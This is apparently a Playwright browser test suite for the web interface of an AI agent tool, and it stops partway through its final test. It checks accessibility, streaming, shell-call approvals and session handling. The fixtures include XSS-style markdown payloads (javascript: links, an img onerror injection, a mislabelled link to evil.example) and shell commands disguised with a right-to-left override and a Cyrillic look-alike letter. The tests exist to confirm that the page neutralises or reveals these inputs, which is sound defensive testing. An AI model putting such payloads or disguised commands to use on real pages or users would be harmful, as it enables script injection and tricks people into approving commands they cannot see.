// The built page in a real browser, over the mock gateway: what a person does, what they see, and that it is
// accessible, quick and silent. Screenshots go to SHOTS, where it is set.

import AxeCore from "axe-core";
import { existsSync, mkdirSync, readFileSync } from "node:fs";
import { createSocket } from "node:dgram";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { chromium, type Browser, type BrowserContext, type Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Job, JobCall, Op, SessionSummary, Surface } from "../src/protocol";
import { entry, log, notes, settings } from "./desk";
import { cutAnew, SESSION, Teller, turnId, usage, wholeStory } from "./journal";
import { MockGateway } from "./mock";

const CHROMIUM = process.env.CHROMIUM ?? "/usr/bin/chromium";
const SHOTS = process.env.SHOTS;
/** Times are printed, and are no test but of a page that hangs: the machine may be busy. */
const HANGS_MS = 30_000;
const OTHER = "01930000-0000-7000-8000-000000000002";
const SIZES = { wide: { width: 1280, height: 800 }, narrow: { width: 390, height: 844 } };

let browser: Browser;
let gateway: MockGateway;
let context: BrowserContext;
let page: Page;
let complaints: string[];

const describeInBrowser = existsSync(CHROMIUM) ? describe : describe.skip;
if (!existsSync(CHROMIUM)) console.log(`skipped: there is no browser at ${CHROMIUM}; set CHROMIUM`);

function summary(session: string, title: string, more: Partial<SessionSummary> = {}): SessionSummary {
  return {
    session,
    title,
    workspace: "/home/me/parser",
    started_at: Date.now() - 7_200_000,
    active_at: Date.now() - 60_000,
    turns: 1,
    is_running: false,
    usage: usage(1_000, 100, 5_000),
    ...more,
  };
}

async function openPage(size = SIZES.wide, scheme: "light" | "dark" = "light"): Promise<void> {
  context = await browser.newContext({ viewport: size, colorScheme: scheme });
  page = await context.newPage();
  page.on("console", (message) => {
    const text = message.text();
    // A gateway that is down is told by the browser itself.
    if (message.type() === "error" && !/WebSocket|Failed to load resource/.test(text)) complaints.push(text);
  });
  page.on("pageerror", (error) => complaints.push(String(error)));
  page.on("request", (request) => {
    const url = request.url();
    if (!url.startsWith(gateway.url) && !url.startsWith("data:")) complaints.push(`foreign request: ${url}`);
  });
}

async function visit(hash = ""): Promise<void> {
  await page.goto(`${gateway.url}/${hash}`);
  await page.waitForSelector(".bar, .signed-out");
}

const visitSession = (session = SESSION) => visit(`#/s/${session}`);

async function shot(name: string): Promise<void> {
  if (!SHOTS) return;
  mkdirSync(SHOTS, { recursive: true });
  await page.waitForTimeout(250);
  await page.screenshot({ path: `${SHOTS}/${name}.png` });
}

/** What axe finds on the page as it is; the page's own policy forbids nothing that it needs. */
async function violations(): Promise<string[]> {
  await page.waitForTimeout(250);
  await page.evaluate(AxeCore.source);
  const found = await page.evaluate(async () => {
    const axe = (window as unknown as { axe: typeof AxeCore }).axe;
    return (await axe.run()).violations;
  });
  return found.map(
    ({ id, impact, nodes }) => `${impact} ${id}: ${nodes.map(({ html }) => html.slice(0, 160)).join(" | ")}`,
  );
}

/** Turns of two sessions that run. */
function running(): Job[] {
  const now = Date.now();
  const call = (call: string, about: string, stage: JobCall["stage"]): JobCall => ({ call, tool: "shell", about, started_at: now - 9_000, stage });
  return [
    {
      session: OTHER,
      turn: turnId(90),
      title: "Build everything",
      text: "Build it for all targets, then tidy up",
      workspace: "/home/me/site",
      started_at: now - 190_000,
      calls: [call("c1", `cargo build --release ${"--verbose ".repeat(12)}`, "running"), call("c2", "rm -r \u202eold", "asked"), call("c3", "", "written")],
    },
    { session: SESSION, turn: turnId(91), title: "Mend the last_line test", text: "And now?", workspace: "/home/me/parser", started_at: now - 3_000, calls: [] },
  ];
}

async function fitsWidth(): Promise<boolean> {
  return page.evaluate(() => document.documentElement.scrollWidth <= innerWidth);
}

function opsOf<K extends Op["op"]>(kind: K): Extract<Op, { op: K }>[] {
  return gateway.ops.filter((op): op is Extract<Op, { op: K }> => op.op === kind);
}

beforeAll(async () => {
  if (existsSync(CHROMIUM)) {
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox"] });
  }
});

afterAll(async () => browser?.close());

beforeEach(async () => {
  complaints = [];
  gateway = await MockGateway.start();
  gateway.sessions = [
    summary(SESSION, "Mend the last_line test", { is_running: true }),
    summary(OTHER, "Compare three ways to cache pages", { workspace: "/home/me/site", active_at: Date.now() - 9e7 }),
    ...Array.from({ length: 12 }, (_, idx) =>
      summary(turnId(500 + idx), ["Plan the garden", "Sort the photos of 2019 by place", "Why is the build slow?"][idx % 3]!, {
        workspace: "/home/me/notes",
        active_at: Date.now() - 1e8 * (idx + 2),
      }),
    ),
  ];
});

afterEach(async () => {
  await context?.close();
  await gateway.stop();
  expect(complaints).toEqual([]);
});

/** An answer and calls that are wider and longer than any page. */
function tellWideTurn(): void {
  const cells = Array.from({ length: 14 }, (_, idx) => `column_${idx}`);
  const long = Array.from({ length: 60 }, (_, idx) => `echo ${idx} ${"word ".repeat(20)}`).join("\n");
  const table = `| ${cells.join(" | ")} |\n|${"---|".repeat(14)}\n| ${cells.join(" | ")} |`;
  gateway.tell(
    SESSION,
    turnId(40),
    { event: "turn_started", text: "Look at this:\n" + "and this word, and that. ".repeat(120) },
    { event: "text_delta", text: `${table}\n\n- a list\n\n  \`\`\`sh\n  ${"wide ".repeat(60)}\n  \`\`\`\n\n\`\`\`\n${"wide ".repeat(60)}\n\`\`\`\n\nhttps://example.com/${"a".repeat(300)}\n` },
    { event: "tool_call_ready", call: { id: "c40", name: "shell", arguments: { script: long } }, origin: "person" },
    { event: "tool_output_delta", call: "c40", text: long },
    { event: "tool_call_ended", call: "c40", text: long, is_error: false, taint: { untrusted: true, private: true }, whole: null, elapsed_ms: 900 },
    { event: "turn_ended", outcome: { type: "limited", limit: "30 model calls" }, usage: usage(10, 10, null), elapsed_ms: 1_500 },
  );
}

/** A turn that thinks, writes and runs at once and then waits for a person. */
function tellRunningTurn(): void {
  const turn = turnId(50);
  gateway.put(new Teller(SESSION, Date.now() - 14_000).tell(
    turn,
    { event: "turn_started", text: "Now publish the fixed version to the staging host." },
    { event: "model_call_started", provider: "house", model: "large-1", reason: null },
    { event: "thinking_delta", text: "Publishing needs the network. I will build first and then ask for the upload." },
    { event: "text_delta", text: "I build the release and then upload it to `staging.example.com`." },
    { event: "tool_call_started", call: "c50", name: "shell" },
    { event: "tool_call_ready", call: { id: "c50", name: "shell", arguments: { script: "cargo build --release" } }, origin: "model" },
    { event: "tool_output_delta", call: "c50", text: "   Compiling parser v0.1.0 (/home/me/parser)\n    Finished `release` profile in 9.31s\n" },
    { event: "tool_call_started", call: "c51", name: "shell" },
  ).records);
}

function askApproval(approval = "11111111-0000-4000-8000-000000000001", call = "c51"): void {
  const script = "rsync -a target/release/parser deploy@staging.example.com:/srv/parser/\nssh deploy@staging.example.com 'systemctl restart parser' # \u202etxt.с";
  gateway.tell(
    SESSION,
    turnId(50),
    { event: "tool_call_ready", call: { id: call, name: "shell", arguments: { script, timeout_s: 120 } }, origin: "model" },
    {
      event: "approval_requested",
      approval,
      call: { id: call, name: "shell", arguments: { script, timeout_s: 120 } },
      effects: [
        { type: "network", host: "staging.example.com", port: 22 },
        { type: "run", program: "/usr/bin/ssh", arguments: ["deploy@staging.example.com", "systemctl restart parser"], reads_only: false },
      ],
      reason: "It reaches a host over the network and runs a program there.",
      expires_at: Date.now() + 285_000,
    },
  );
}

describeInBrowser("what is seen", () => {
  for (const [size, viewport] of Object.entries(SIZES)) {
    for (const scheme of ["light", "dark"] as const) {
      const looked = async (name: string) => {
        await shot(`${size}-${scheme}-${name}`);
        expect(await violations(), name).toEqual([]);
        expect(await fitsWidth(), name).toBe(true);
      };

      it(`${size} and ${scheme}: every page is accessible and fits`, async () => {
        await openPage(viewport, scheme);
        gateway.costs = costs();
        gateway.changes = changes();
        await visit();
        await page.waitForSelector(".welcome nav");
        await looked("1-new");

        gateway.put(wholeStory());
        await visitSession();
        await page.waitForSelector(".undone");
        await looked("2-story-end");
        await page.evaluate(() => (document.querySelector(".scroll")!.scrollTop = 0));
        await looked("3-story-begin");
        await page.locator(".call-head").nth(1).click();
        await page.locator(".fold").first().click();
        await looked("4-story-open");

        tellWideTurn();
        await page.getByText("A limit ended the turn").waitFor();
        await looked("4-wide");
        await page.getByText("column_0").first().scrollIntoViewIfNeeded();
        await looked("4-wide-table");

        tellRunningTurn();
        await page.evaluate(() => {
          const scroll = document.querySelector(".scroll")!;
          scroll.scrollTop = scroll.scrollHeight;
        });
        await page.waitForSelector(".call.running .output");
        await looked("5-running");
        askApproval();
        await page.waitForSelector(".approval");
        await page.waitForTimeout(700);
        await looked("6-approval");
        gateway.tell(SESSION, turnId(50), { event: "question_asked", question: "q9", text: "Which host shall be next?", choices: ["staging", "production"] });
        await page.waitForSelector(".question .answer");
        await looked("7-question");

        await page.fill("#composer", "/");
        await looked("8-suggestions");
        await page.fill("#composer", "");
        await page.keyboard.press("Control+k");
        await looked("9-palette");
        await page.keyboard.press("Escape");
        await page.keyboard.press("Control+/");
        await looked("10-help");
        await page.keyboard.press("Escape");
        await page.getByRole("button", { name: "Show changes" }).first().click();
        await page.waitForSelector(".diff");
        await looked("11-diff");
        await page.keyboard.press("Escape");
        await page.getByRole("button", { name: "Forget session" }).click();
        await looked("12-forget");
        await page.keyboard.press("Escape");
        await visit("#/cost");
        await page.waitForSelector(".models");
        await looked("13-cost");
        gateway.jobs = running();
        await visit("#/status");
        await page.waitForSelector(".facts");
        await looked("14-status");
        if (size === "narrow") {
          await page.getByRole("button", { name: "Sessions", exact: true }).click();
          await page.waitForTimeout(250);
          await looked("15-drawer");
          await page.keyboard.press("Escape");
          await page.waitForTimeout(250);
          expect(await page.evaluate(() => document.activeElement?.getAttribute("aria-label"))).toBe("Sessions");
        }
        gateway.isClosed = true;
        await page.reload();
        await page.waitForSelector(".signed-out");
        await looked("16-signed-out");
      });

      it(`${size} and ${scheme}: so are memory, settings and the log`, async () => {
        await openPage(viewport, scheme);
        gateway.notes = notes(SESSION, turnId(1));
        gateway.settings = settings();
        gateway.logs = log();
        await visit("#/memory");
        await page.waitForSelector(".notes article");
        await looked("17-memory");
        await page.getByRole("button", { name: "New note" }).click();
        await looked("18-memory-new");
        await visit("#/settings");
        await page.waitForSelector(".setting");
        await looked("19-settings");
        await page.getByLabel("limits.turn_seconds", { exact: true }).fill("soon");
        await page.keyboard.press("Enter");
        await page.waitForSelector(".setting .error");
        await looked("20-settings-error");
        await page.evaluate(() => document.querySelector(".providers")!.scrollIntoView());
        await looked("21-settings-end");
        await visit("#/logs");
        await page.getByText("disk full").waitFor();
        await looked("22-logs");
      });
    }
  }

  it("fits 360 pixels", async () => {
    await openPage({ width: 360, height: 740 });
    gateway.put(wholeStory());
    tellWideTurn();
    tellRunningTurn();
    askApproval();
    await visitSession();
    await page.waitForSelector(".approval");
    await shot("360");
    expect(await fitsWidth()).toBe(true);
  });

  it("can be used soon", async () => {
    gateway.put(wholeStory());
    await openPage();
    const begin = performance.now();
    await visitSession();
    await page.waitForSelector("#composer:focus");
    await page.keyboard.type("x");
    expect(await page.inputValue("#composer")).toBe("x");
    const elapsed = performance.now() - begin;
    console.log(`interactive after ${Math.round(elapsed)} ms`);
    expect(elapsed).toBeLessThan(HANGS_MS);
  });
});

describeInBrowser("a session of 50,000 records", () => {
  it("can be typed in while it is read, which takes seconds", async () => {
    for (let n = 1; n <= 250; n++) {
      const words = Array.from({ length: 196 }, (_, idx) => ({ event: "text_delta" as const, text: `word ${idx} of turn ${n}. ` }));
      gateway.tell(SESSION, turnId(n), { event: "turn_started", text: `question ${n}` }, ...words, { event: "model_call_ended", usage: usage(1, 1), stop: "end" }, { event: "turn_ended", outcome: { type: "completed" }, usage: usage(1, 1), elapsed_ms: 5 });
    }
    await openPage();
    // Told by the page itself: what is sent is also copied to this test, which takes longer than reading it.
    await page.addInitScript(watchFrames);
    await visitSession();
    await page.getByText("word 195 of turn 250.").waitFor();
    await page.getByText("#250").waitFor();
    const seen = await page.evaluate(() => ({ ...(window as unknown as { seen: Seen }).seen, readMs: performance.now() }));
    console.log(`${gateway.journal.length} records: composer after ${Math.round(seen.composerMs)} ms, slowest frame ${Math.round(seen.slowestMs)} ms, read after ${Math.round(seen.readMs)} ms`);
    expect(Math.max(seen.composerMs, seen.slowestMs, seen.readMs)).toBeLessThan(HANGS_MS);
  });
});

interface Seen {
  composerMs: number;
  slowestMs: number;
}

/** Runs in the page: notes when one could type, and how long a key would have waited. */
function watchFrames(): void {
  const seen: Seen = { composerMs: Infinity, slowestMs: 0 };
  (window as unknown as { seen: Seen }).seen = seen;
  let last = 0;
  const frame = (now: number) => {
    if (seen.composerMs < now) seen.slowestMs = Math.max(seen.slowestMs, now - last);
    else if (document.getElementById("composer")) seen.composerMs = now;
    last = now;
    requestAnimationFrame(frame);
  };
  requestAnimationFrame(frame);
}

describeInBrowser("what streams", () => {
  const end = () => page.locator(".turn footer .meta").first().waitFor();
  const html = () =>
    page.$$eval(".transcript .prose, .transcript .said, .transcript .call, .transcript .note", (found) =>
      found.map((element) => element.outerHTML),
    );

  it("ends as the same screen however it was cut, streamed or read at once, also over broken connections", async () => {
    await openPage();
    gateway.put(wholeStory());
    await visitSession();
    await page.waitForSelector(".undone");
    const whole = await html();
    for (const seed of [1, 2, 3]) {
      const records = cutAnew(wholeStory(), seed);
      gateway.journal.length = 0;
      await page.goto("about:blank");
      await visitSession();
      for (let at = 0; at < records.length; at += 6) {
        gateway.put(records.slice(at, at + 6));
        if (at % 60 === 54) gateway.drop();
        await page.waitForTimeout(12);
      }
      await page.waitForSelector(".undone");
      expect(await html(), `seed ${seed}`).toEqual(whole);
      expect(await page.locator(".turn .said").count()).toBe(2);
    }
  });

  it("reads anew when the engine was killed and lost what it had not stored yet", async () => {
    await openPage();
    await visitSession();
    tellRunningTurn();
    gateway.tell(SESSION, turnId(50), { event: "text_delta", text: "never stored" }, { event: "text_delta", text: ", and neither" });
    await page.getByText("never stored, and neither").waitFor();
    gateway.journal.length -= 3;
    gateway.status = { ...gateway.status, started_at: gateway.status.started_at + 1 };
    gateway.tell(SESSION, turnId(50), { event: "turn_ended", outcome: { type: "failed", error: "The engine was stopped." }, usage: usage(1, 1), elapsed_ms: 9 });
    gateway.drop();
    await page.getByText("The engine was stopped.").waitFor();
    expect(await page.getByText("never stored").count()).toBe(0);
    expect(await page.locator(".working").count()).toBe(0);
  });

  it("shows thinking, words and output growing at once", async () => {
    await openPage();
    await visitSession();
    tellRunningTurn();
    await page.waitForSelector(".call .output");
    gateway.tell(SESSION, turnId(50), { event: "tool_output_delta", call: "c50", text: "one more line\n" }, { event: "tool_arguments_delta", call: "c51", json: '{"script": "echo gro' });
    await page.getByText("one more line").waitFor();
    await page.getByText("echo gro").first().waitFor();
    gateway.tell(SESSION, turnId(50), { event: "text_delta", text: "And while it runs I write." });
    await page.getByText("And while it runs").waitFor();
    expect(await page.locator(".call.running").count()).toBe(2);
  });

  it("loads no picture, runs no script and opens nothing but web addresses", async () => {
    await openPage();
    gateway.put(wholeStory());
    gateway.tell(SESSION, turnId(60), { event: "turn_started", text: "x" }, { event: "text_delta", text: "[a](javascript:alert(1)) [b](data:text/html,x) <img src=x onerror=alert(1)> ![p](http://127.0.0.1:1/p.png) [good.example](https://evil.example/x)\n\n<iframe src=/></iframe>" });
    await visitSession();
    await page.getByText("good.example").waitFor();
    expect(await page.locator(".transcript img, .transcript script, .transcript iframe").count()).toBe(0);
    const links = await page.$$eval(".prose a", (found) => found.map((a) => [a.getAttribute("href"), a.getAttribute("rel")]));
    for (const [href, rel] of links) {
      expect(href).toMatch(/^(https?|mailto):/);
      expect(rel).toBe("noopener noreferrer");
    }
    expect(await page.locator(".prose", { hasText: "evil.example" }).count()).toBe(1);
  });

  it("shows all that it can of what it can't", async () => {
    await openPage();
    gateway.tell(SESSION, turnId(60), { event: "turn_started", text: "x" }, { event: "question_asked", question: "q", text: "?", choices: null as never }, { event: "text_delta", text: "still here" });
    await visitSession();
    await page.getByText("can't be shown here").waitFor();
    await page.getByText("still here").waitFor();
  });

  it("stays smooth with 100,000 lines of output", async () => {
    await openPage();
    await visitSession();
    gateway.tell(SESSION, turnId(70), { event: "turn_started", text: "x" }, { event: "tool_call_ready", call: { id: "c", name: "shell", arguments: { script: "yes" } }, origin: "model" });
    await page.waitForSelector(".call.running");
    await page.evaluate(watchFrames);
    for (let at = 0; at < 100_000; at += 10) {
      const text = Array.from({ length: 10 }, (_, idx) => `line ${at + idx}: the quick brown fox\n`).join("");
      gateway.tell(SESSION, turnId(70), { event: "tool_output_delta", call: "c", text });
      if (at % 2_000 === 0) await page.waitForTimeout(5);
    }
    await page.getByText("line 99999:").waitFor();
    const slowest = await page.evaluate(() => (window as unknown as { seen: Seen }).seen.slowestMs);
    console.log(`100,000 lines: slowest frame ${Math.round(slowest)} ms`);
    expect(slowest).toBeLessThan(HANGS_MS);
    expect(await page.locator(".output").evaluate((pre) => pre.textContent!.length)).toBeLessThan(60_000);
    await page.getByText("lines not shown").waitFor();
  });

  it("shows a long session's end first and the rest when asked", async () => {
    await openPage();
    for (let n = 1; n <= 80; n++) {
      gateway.tell(SESSION, turnId(n), { event: "turn_started", text: `question ${n}` }, { event: "text_delta", text: `answer ${n}` }, { event: "turn_ended", outcome: { type: "completed" }, usage: usage(1, 1), elapsed_ms: 5 });
    }
    await visitSession();
    await page.getByText("answer 80").waitFor();
    expect(await page.locator(".turn").count()).toBe(30);
    await page.getByRole("button", { name: /earlier/ }).click();
    expect(await page.locator(".turn").count()).toBe(60);
    await end();
  });
});

describeInBrowser("what a person does", () => {
  it("says something: it is sent once, shown at once and told back once", async () => {
    await openPage();
    await visit();
    await page.waitForSelector(".welcome nav");
    gateway.onOp = (op) => {
      if (op.op !== "user_turn") return;
      gateway.tell(op.session, op.turn, { event: "session_started", workspace: op.options.workspace! }, { event: "turn_started", text: op.text }, { event: "text_delta", text: "Hello." });
    };
    await page.fill("#composer", "Good morning");
    await page.keyboard.press("Enter");
    await page.getByText("Hello.").waitFor();
    const [op] = opsOf("user_turn");
    expect(op).toMatchObject({ text: "Good morning", options: { workspace: "/home/me/parser", model: null, is_attended: true } });
    expect(op!.turn).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[89ab]/);
    expect(page.url()).toContain(op!.session);
    expect(await page.getByText("Good morning").count()).toBe(1);
    expect(await page.inputValue("#composer")).toBe("");
  });

  it("goes on saying it until somebody hears it", async () => {
    await openPage();
    gateway.put(wholeStory());
    await visitSession();
    await page.waitForSelector(".undone");
    await context.route("**/api/ops", (route) => route.abort());
    await page.fill("#composer", "Are you there?");
    await page.keyboard.press("Enter");
    await page.getByText("Not sent yet").waitFor();
    await context.unroute("**/api/ops");
    gateway.onOp = (op) => op.op === "user_turn" && gateway.tell(op.session, op.turn, { event: "turn_started", text: op.text });
    await page.waitForSelector(".working");
    expect(opsOf("user_turn").length).toBe(1);
    expect(await page.locator(".outgoing").count()).toBe(0);
  });

  it("hears why something was refused and can take it back", async () => {
    await openPage();
    await visitSession();
    gateway.refusal = "The store is full.";
    await page.fill("#composer", "Remember this");
    await page.keyboard.press("Enter");
    await page.getByText("The store is full.").waitFor();
    await page.getByRole("button", { name: "Take back" }).click();
    expect(await page.inputValue("#composer")).toBe("Remember this");
    expect(await page.locator(".outgoing").count()).toBe(0);
  });

  it("approves by keys only where the request has the focus, and once", async () => {
    await openPage();
    await visitSession();
    tellRunningTurn();
    await page.waitForSelector("#composer:focus");
    await page.keyboard.type("half a wo");
    askApproval();
    await page.waitForSelector(".approval");
    await page.keyboard.type("osed");
    expect(await page.inputValue("#composer")).toBe("half a woosed");
    await page.waitForTimeout(700);
    await page.keyboard.press("Enter");
    await page.waitForTimeout(100);
    expect(opsOf("decide")).toEqual([]);
    expect(opsOf("user_turn").length).toBe(1);

    await page.keyboard.press("F8");
    await page.keyboard.press("Enter");
    await page.keyboard.press("Space");
    expect(opsOf("decide")).toEqual([]);
    gateway.onOp = (op) => {
      if (op.op !== "decide") return;
      gateway.tell(SESSION, turnId(50), { event: "approval_decided", approval: op.approval, decision: op.decision, by: "person" });
    };
    await page.keyboard.press("s");
    await page.keyboard.press("s");
    await page.getByText("Allowed for this session").waitFor();
    expect(opsOf("decide")).toEqual([{ op: "decide", approval: "11111111-0000-4000-8000-000000000001", decision: "session" }]);
    await page.waitForSelector("#composer:focus");
  });

  it("can't approve what appeared under the pointer a moment ago", async () => {
    await openPage();
    await visitSession();
    tellRunningTurn();
    askApproval();
    await page.waitForSelector(".approval");
    await page.locator(".approval .once").dispatchEvent("click");
    expect(opsOf("decide")).toEqual([]);
    await page.waitForTimeout(700);
    await page.locator(".approval .deny").click();
    await expect.poll(() => opsOf("decide").length).toBe(1);
  });

  it("sees the whole of what would run, with what hides in it", async () => {
    await openPage();
    await visitSession();
    tellRunningTurn();
    askApproval();
    const text = await page.locator(".approval").innerText();
    expect(text).toContain("systemctl restart parser' # ⟨U+202E⟩txt.с");
    expect(text).toContain("connects to staging.example.com:22");
    expect(text).toContain("Letters that look like others: с (U+0441)");
    expect(text).toContain("It reaches a host over the network");
  });

  it("answers a question", async () => {
    await openPage();
    await visitSession();
    tellRunningTurn();
    gateway.tell(SESSION, turnId(50), { event: "question_asked", question: "q", text: "Which?", choices: ["left", "right"] });
    await page.getByRole("button", { name: "right" }).click();
    await expect.poll(() => opsOf("answer")).toEqual([{ op: "answer", question: "q", text: "right" }]);
  });

  it("goes on from an earlier turn in a session of its own, which the list shows and the search finds", async () => {
    await openPage();
    gateway.put(wholeStory());
    gateway.onOp = (op) => {
      if (op.op !== "branch") return;
      gateway.sessions.unshift(summary(op.into, "", { branch_of: { session: op.session, until: 20 }, turns: 0 }));
      gateway.tell(op.into, turnId(1), { event: "turn_started", text: "shared words" }, { event: "turn_ended", outcome: { type: "completed" }, usage: usage(1, 1), elapsed_ms: 5 });
      gateway.tell(op.into, null, { event: "session_branched", workspace: "/home/me/parser", past: [{ session: op.session, until: 20 }] });
    };
    await visitSession();
    await page.waitForSelector(".undone");
    await page.getByRole("button", { name: "Go on from here, after turn 1" }).click();
    await page.getByText("A branch begins here").waitFor();
    const [op] = opsOf("branch");
    expect(op).toMatchObject({ session: SESSION, after: turnId(1) });
    expect(page.url()).toContain(op!.into);
    await page.locator(".sessions").getByText("branch of Mend the last_line test").waitFor();
    expect(await page.getByRole("button", { name: "Forget turn 1" }).count()).toBe(0);
    expect(await violations()).toEqual([]);
    await shot("branch");
    await page.fill("#search", "branch mend");
    await expect.poll(() => page.locator(".sessions li").count()).toBe(1);
    await page.getByRole("link", { name: "the session that it came from" }).click();
    await expect.poll(() => page.url()).toContain(SESSION);
    await page.fill("#composer", "/branch 1");
    await page.keyboard.press("Enter");
    await expect.poll(() => opsOf("branch").length).toBe(2);
  });

  it("gives images: picked, pasted and dropped, shown before they are sent, taken away and taken back", async () => {
    await openPage();
    await visitSession();
    // A picture of each way, and a file that only says that it is one.
    const drawn = await page.evaluate(async () => {
      const canvas = Object.assign(document.createElement("canvas"), { width: 12, height: 8 });
      canvas.getContext("2d")!.fillRect(0, 0, 6, 8);
      return canvas.toDataURL("image/png").split(",")[1]!;
    });
    const png = Buffer.from(drawn, "base64");
    await page.setInputFiles("input[type=file]", [
      { name: "cat.png", mimeType: "image/png", buffer: png },
      { name: "notes.png", mimeType: "image/png", buffer: Buffer.from("no picture") },
    ]);
    await page.getByText("notes.png is no image").waitFor();
    for (const kind of ["paste", "drop"]) {
      await page.evaluate(
        ([kind, base64]) => {
          const bytes = Uint8Array.from(atob(base64!), (char) => char.charCodeAt(0));
          const data = new DataTransfer();
          data.items.add(new File([bytes], `${kind}.png`, { type: "image/png" }));
          const event = kind === "paste" ? new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }) : new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true });
          document.getElementById("composer")!.dispatchEvent(event);
        },
        [kind, drawn],
      );
    }
    await expect.poll(() => page.locator(".thumbnails img").count()).toBe(3);
    await page.fill("#composer", "Which is the cat?");
    await shot("images");
    expect(await violations()).toEqual([]);
    await page.getByRole("button", { name: "Take away paste.png" }).click();
    gateway.refusal = "Not now.";
    await page.keyboard.press("Enter");
    await page.getByText("Not now.").waitFor();
    await page.getByRole("button", { name: "Take back" }).click();
    expect(await page.locator(".thumbnails img").count()).toBe(2);
    gateway.refusal = null;
    gateway.image = png;
    gateway.onOp = (op) => {
      if (op.op !== "user_turn") return;
      const image = { blob: "b".repeat(64), kind: "png" as const, width: 12, height: 8, bytes: png.length };
      gateway.tell(op.session, op.turn, { event: "turn_started", text: op.text }, { event: "images_given", images: [image, image] }, { event: "text_delta", text: "The left one." });
    };
    await page.keyboard.press("Enter");
    const second = page.getByRole("img", { name: "Image 2: PNG, 12 × 8" });
    await second.waitFor();
    await expect.poll(() => second.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(12);
    const [op] = opsOf("user_turn").slice(-1);
    expect(op).toMatchObject({ text: "Which is the cat?", images: [drawn, drawn] });
    expect(await page.locator(".thumbnails").count()).toBe(0);
    // Asked for by the record that tells of it, and shown large when it is pressed, by keys too.
    const at = gateway.journal.find(({ event }) => event.event === "images_given")!.seq;
    expect(gateway.asked.some((line) => line.startsWith(`GET /api/sessions/${SESSION}/images/${at}/1 `))).toBe(true);
    expect(await violations()).toEqual([]);
    await page.getByRole("button", { name: "Image 2" }).focus();
    await page.keyboard.press("Enter");
    await page.getByRole("dialog", { name: "Image 2" }).getByText("PNG, 12 × 8,").waitFor();
    expect(await violations()).toEqual([]);
    await shot("image");
    await page.keyboard.press("Escape");
    expect(await page.getByRole("dialog").count()).toBe(0);
    expect(await page.evaluate(() => document.activeElement?.textContent ?? document.activeElement?.tagName)).toBe("");
    // One that was forgotten meanwhile is told in words.
    gateway.image = null;
    await page.reload();
    await page.getByText("Image 1: PNG, 12 × 8; it is not there any more").waitFor();
    expect(await violations()).toEqual([]);
  });

  it("shows what runs in all sessions, with calls and programs, and stops it", async () => {
    await openPage();
    gateway.jobs = running();
    await visit("#/status");
    const build = page.locator(".jobs > li").filter({ hasText: "Build everything" });
    await build.getByText("cargo build --release").waitFor();
    await build.getByText("waits for your yes or no").waitFor();
    await page.getByText("Waits for the model").waitFor();
    expect(await page.getByText("\u202e").count()).toBe(0);
    expect(await violations()).toEqual([]);
    expect(await fitsWidth()).toBe(true);
    await page.getByRole("button", { name: "Stop Build everything" }).click();
    await expect.poll(() => opsOf("interrupt")).toMatchObject([{ session: OTHER }]);
    gateway.jobs = gateway.jobs.slice(1);
    await expect.poll(() => page.locator(".jobs > li").count(), { timeout: 10_000 }).toBe(1);
    gateway.jobs = [];
    await page.getByText("No turn runs.").waitFor();
    await page.setViewportSize(SIZES.narrow);
    gateway.jobs = running();
    await build.getByText("cargo build --release").waitFor();
    expect(await fitsWidth()).toBe(true);
    expect(await violations()).toEqual([]);
    await page.getByRole("link", { name: "Build everything" }).click();
    await expect.poll(() => page.url()).toContain(OTHER);
  });

  it("steers and stops a turn", async () => {
    await openPage();
    await visitSession();
    tellRunningTurn();
    await page.waitForSelector(".working");
    gateway.onOp = (op) => op.op === "user_turn" && gateway.tell(op.session, turnId(50), { event: "steered", text: op.text, turn: op.turn });
    await page.fill("#composer", "Use the other host");
    await page.keyboard.press("Enter");
    await page.waitForSelector(".steered");
    expect(await page.locator(".outgoing").count()).toBe(0);
    await page.keyboard.press("Escape");
    await page.keyboard.press("Escape");
    await expect.poll(() => opsOf("interrupt").length).toBe(1);
  });

  it("runs a command by hand, and commands that are typed", async () => {
    await openPage();
    gateway.put(wholeStory());
    gateway.changes = changes();
    await visitSession();
    await page.waitForSelector(".undone");
    const type = async (text: string) => {
      await page.fill("#composer", text);
      await page.keyboard.press("Enter");
    };
    await type("!ls -la");
    await expect.poll(() => opsOf("user_call")).toMatchObject([{ tool: "shell", arguments: { script: "ls -la" }, text: "!ls -la" }]);
    await type("/compact");
    await expect.poll(() => opsOf("compact").length).toBe(1);
    await type("/model house/small-1");
    await type("again");
    await expect.poll(() => opsOf("user_turn")).toMatchObject([{ options: { model: "house/small-1" } }]);
    await type("/nonsense");
    await page.getByText("There is no /nonsense").waitFor();
    await page.fill("#composer", "");
    await type("/undo 1 force");
    await page.locator("dialog").getByRole("button", { name: "Put back all the same" }).click();
    await expect.poll(() => opsOf("undo")).toMatchObject([{ of: turnId(1), is_forced: true }]);
    await type("/diff 1");
    await page.waitForSelector(".diff");
    await page.keyboard.press("Escape");
    await type("/cost");
    await page.waitForSelector(".page");
  });

  it("completes a command with Tab and the arrows", async () => {
    await openPage();
    await visitSession();
    await page.fill("#composer", "/d");
    await page.keyboard.press("Tab");
    expect(await page.inputValue("#composer")).toBe("/diff ");
  });

  it("finds, renames and forgets a session", async () => {
    await openPage();
    gateway.put(wholeStory());
    await visit();
    await page.fill("#search", "cache site");
    expect(await page.locator(".sessions li").count()).toBe(1);
    await page.fill("#search", "last_line");
    await page.locator(".sessions li a").click();
    await page.waitForSelector(".undone");
    await page.getByRole("button", { name: "Rename session" }).click();
    await page.fill("#title", "A better name");
    await page.keyboard.press("Enter");
    await expect.poll(() => opsOf("rename")).toEqual([{ op: "rename", session: SESSION, title: "A better name" }]);
    await page.getByRole("button", { name: "Forget session" }).click();
    await page.keyboard.press("Enter");
    expect(opsOf("forget")).toEqual([]);
    await page.getByRole("button", { name: "Forget session" }).click();
    await page.getByRole("button", { name: "Forget the session" }).click();
    await expect.poll(() => opsOf("forget")).toEqual([{ op: "forget", what: { type: "session", session: SESSION } }]);
    await page.waitForSelector(".welcome");
  });

  it("goes anywhere with Ctrl-K", async () => {
    await openPage();
    await visit();
    await page.waitForSelector(".welcome nav");
    await page.keyboard.press("Control+k");
    await page.keyboard.type("cache pages");
    await page.keyboard.press("Enter");
